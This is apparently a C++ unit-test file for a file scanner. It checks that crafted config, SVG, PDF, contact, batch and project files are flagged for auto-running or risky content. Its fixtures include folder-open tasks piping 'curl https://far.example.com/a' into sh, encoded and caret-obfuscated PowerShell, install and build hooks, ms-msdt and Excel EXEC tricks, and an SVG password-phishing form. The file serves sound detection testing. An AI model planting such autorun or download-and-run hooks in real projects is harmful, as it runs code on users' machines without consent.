// Small files that start or fetch something, as they come by mail: each is told, and its honest twin is not.
#include <doctest/doctest.h>

#include <algorithm>

#include "base/encode.h"
#include "content/read.h"

namespace sekisho::content {
namespace {

struct Row {
  std::string says, name, bytes, trait;  // trait: empty when nothing may be told
};

std::string traits_of(const Document& document) {
  std::string out;
  for (const auto& trait : document.traits) out += trait.name + " ";
  return out;
}

void check(const Row& row) {
  CAPTURE(row.says);
  Budget budget;
  const auto document = read(row.bytes, {.as = ReadOptions::As::file, .filename = row.name}, budget);
  const auto traits = traits_of(document);
  CAPTURE(traits);
  if (row.trait.empty())
    CHECK(traits == "");
  else
    CHECK(std::any_of(document.traits.begin(), document.traits.end(),
                      [&](const Trait& trait) { return trait.name == row.trait; }));
}

}  // namespace

TEST_CASE("settings of development tools that run commands by themselves are told") {
  const Row rows[] = {
      {"a task that runs when the folder is opened", "tasks.json",
       R"({"version":"2.0.0", "tasks":[{"label":"build","type":"shell","command":"curl","args":["-s","https://far.example.com/a | sh"],"runOptions":{"runOn":"folderOpen"}}]})",
       "script.autorun"},
      {"what it would do", "tasks.json",
       R"({"tasks":[{"command":"curl -s https://far.example.com/a | sh","runOptions":{"runOn":"folderOpen"}}]})",
       "script.download"},
      {"a comment first", "tasks.json",
       "{\n  // See the manual\n  \"tasks\":[{\"command\":\"po\\u0077ershell -enc "
       "AAAA\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}",
       "script.shell"},
      {"a development container", "devcontainer.json", R"({"name":"x","initializeCommand":["cmd.exe","/c","calc"]})",
       "script.autorun"},
      {"a package that fetches when installed", "package.json",
       R"({"name":"x","scripts":{"preinstall":"node -e \"fetch('https://far.example.com')\""}})", "script.download"},
      {"an ordinary task", "tasks.json",
       R"({"version":"2.0.0","tasks":[{"label":"build","type":"shell","command":"make"}]})", ""},
      {"an ordinary package", "package.json",
       R"({"name":"x","scripts":{"test":"node test.js","postinstall":"husky"},"dependencies":{"a":"1"}})", ""},
      {"data", "a.json", R"({"command":"hello","install":true,"text":"a \"quote\" and a \\"})", ""},
  };
  for (const auto& row : rows) check(row);
}

TEST_CASE("contacts whose website is a program are told") {
  const auto contact = [](const std::string& address) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<c:contact "
           "xmlns:c=\"http://schemas.microsoft.com/Contact\"><c:NameCollection><c:Name><c:FormattedName>A "
           "B</c:FormattedName></c:Name></c:NameCollection>"
           "<c:UrlCollection><c:Url><c:Value>" +
           address + "</c:Value></c:Url></c:UrlCollection></c:contact>";
  };
  for (const auto* address : {"..\\http.\\\\www.example.com.exe", "\\\\far.example.com\\share\\a.cpl",
                              "file:///c:/a.exe", "www.example.com\\run.cpl", "c:\\windows\\system32\\calc.exe"}) {
    check({address, "a.contact", contact(address), "shortcut.command"});
  }
  check({"an honest one", "a.contact", contact("https://www.example.com/about"), ""});
}

TEST_CASE("pictures that are links or bring in documents are told") {
  const auto svg = [](const std::string& body) {
    return "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 "
           "9\">" +
           body + "</svg>";
  };
  const Row rows[] = {
      {"a link", "a.svg", svg("<a href=\"https://far.example.com/login\"><rect width=\"9\" height=\"9\"/></a>"),
       "svg.link"},
      {"the old way of links", "a.svg", svg("<a xlink:href=\"https://far.example.com/login\"><text>Open</text></a>"),
       "svg.link"},
      {"another picture brought in", "a.svg",
       svg("<use href=\"data:image/svg+xml;base64," + to_base64(svg("<g id=\"x\"/>")) + "#x\"/>"), "svg.data_uri"},
      {"a page in percent signs", "a.svg",
       svg("<a "
           "href=\"data:text/"
           "html,%3Cform%20action%3D%22https%3A%2F%2Ffar.example.com%2F%22%3E%3Cinput%20type%3Dpassword%3E%3C%2Fform%"
           "3E\">x</a>"),
       "html.form.password"},
      {"a drawing", "a.svg",
       svg("<metadata xmlns:dc=\"http://purl.org/dc/elements/1.1/\"/><image "
           "href=\"data:image/"
           "png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==\"/"
           "><use href=\"#x\"/>"),
       ""},
  };
  for (const auto& row : rows) check(row);
}

TEST_CASE("programs under other names, and far down in long ones, are told") {
  const std::string filler = "// " + std::string(997, 'x') + "\n";
  std::string late;
  while (late.size() < (3u << 20)) late += filler;
  late += "new ActiveXObject('WScript.Shell').Run('cmd.exe /c calc');\n";
  const Row rows[] = {
      {"AppleScript in a text", "read me.txt",
       "on run\n  do shell script \"curl -s https://far.example.com/a | sh\"\nend run\n", "script.shell"},
      {"a program behind three million letters of comment", "a.js", late, "script.shell"},
      {"a diagnostics handler in XML", "a.xml",
       "<?xml version=\"1.0\"?><a><b target=\"ms-msdt:/id PCWDiagnostic /skip force /param x\"/></a>",
       "shortcut.command"},
      {"a macro function in an Excel 2003 file", "a.xml",
       "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook "
       "xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
       "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>"
       "<Cell ss:Formula=\"=EXEC(&quot;calc.exe&quot;)\"/></Row></Table></Worksheet></Workbook>",
       "office.xlm.shell"},
      {"a batch file full of carets", "a.bat",
       "@echo off\r\np^ow^er^sh^ell -w hidden i^w^r https://far.example.com/a\r\n", "script.shell"},
      {"a PDF in a packet", "a.xdp",
       "<?xml version=\"1.0\"?><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><pdf><document><chunk>" +
           to_base64("%PDF-1.4\n1 0 "
                     "obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\nendobj\ntrailer<</Root "
                     "1 0 R>>\n") +
           "</chunk></document></pdf></xdp:xdp>",
       "pdf.javascript"},
      {"what fills a form", "a.fdf",
       "%FDF-1.2\n1 0 "
       "obj\n<</FDF<</F(https://far.example.com/a.pdf)/JavaScript<</After(app.alert\\(1\\))>>>>>>\nendobj\ntrailer<</"
       "Root 1 0 R>>\n",
       "pdf.damaged"},
      {"a project that runs a command when it is built", "a.csproj",
       "<Project><Target Name=\"x\" BeforeTargets=\"Build\"><Exec Command=\"powershell -c calc\"/></Target></Project>",
       "script.autorun"},
      {"an ordinary project", "a.csproj",
       "<Project "
       "Sdk=\"Microsoft.NET.Sdk\"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>",
       ""},
      {"a profile for a telephone", "a.mobileconfig",
       "<?xml version=\"1.0\"?><plist "
       "version=\"1.0\"><dict><key>PayloadType</key><string>com.apple.webClip.managed</string></dict></plist>",
       "installer.package"},
      {"an address in a binary list", "a.webloc",
       std::string("\142\160\154\151\163\164\060\060\321\001\002\123\125\122\114\137\020\033\146\151\154\145\072\057"
                   "\057\057\126\157\154\165\155\145\163\057\170\057\145\166\151\154\056\141\160\160\057\010\013\017"
                   "\000\000\000\000\000\000\001\001\000\000\000\000\000\000\000\003\000\000\000\000\000\000\000\000"
                   "\000\000\000\000\000\000\000\055",
                   80),
       "shortcut.remote_target"},
      {"a text about shell scripts", "a.txt",
       "How to write a shell script: open the editor, and do not tell anybody.\n", ""},
  };
  for (const auto& row : rows) check(row);
}

}  // namespace sekisho::content
